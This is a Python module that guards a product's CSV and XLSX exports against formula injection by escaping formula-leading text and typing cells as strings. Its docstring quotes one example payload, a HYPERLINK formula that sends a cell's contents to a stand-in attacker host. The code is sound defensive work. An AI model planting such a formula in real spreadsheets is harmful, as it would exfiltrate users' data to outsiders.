"""Cells that spreadsheets open: every CSV and XLSX the product writes goes through here, so
that text someone typed (`=HYPERLINK("http://evil.example/?d="&A2, "Open report")` as a
description) is never run as a formula by Excel or LibreOffice.

In a CSV, text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written after an
apostrophe, which spreadsheets show as text (OWASP's advice); numbers stay numbers. In an XLSX,
every text cell is typed as a string, which no spreadsheet evaluates, and keeps its words as
they are. Reading a file back (imports) drops that apostrophe again."""

import csv
from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MARK = "'"


def csv_text(value):
    """A value for a CSV cell: text that a spreadsheet would run is marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return MARK + value
    return value


def csv_row(writer, values: Iterable):
    """writer.writerow(values), each value made safe (returns what the writer returns)."""
    return writer.writerow([csv_text(value) for value in values])


def csv_writer(out):
    """A csv.writer whose rows are made safe: `.writerow(values)`."""
    return _SafeWriter(csv.writer(out))


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, values: Iterable):
        return csv_row(self._writer, values)


def xlsx_row(sheet, values: Iterable) -> list:
    """A row for `sheet.append`: text typed as a string (never a formula), the rest as it is;
    cells already made (with a fill or a comment) are typed the same way."""
    row = []
    for value in values:
        if isinstance(value, Cell):
            if isinstance(value.value, str):
                value.data_type = "s"
            row.append(value)
        elif isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def read_text(text: str) -> str:
    """A cell's text as it was before a CSV made it safe: the apostrophe before a formula's
    first character is dropped, so a file the product wrote imports as it was."""
    if text.startswith(MARK) and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
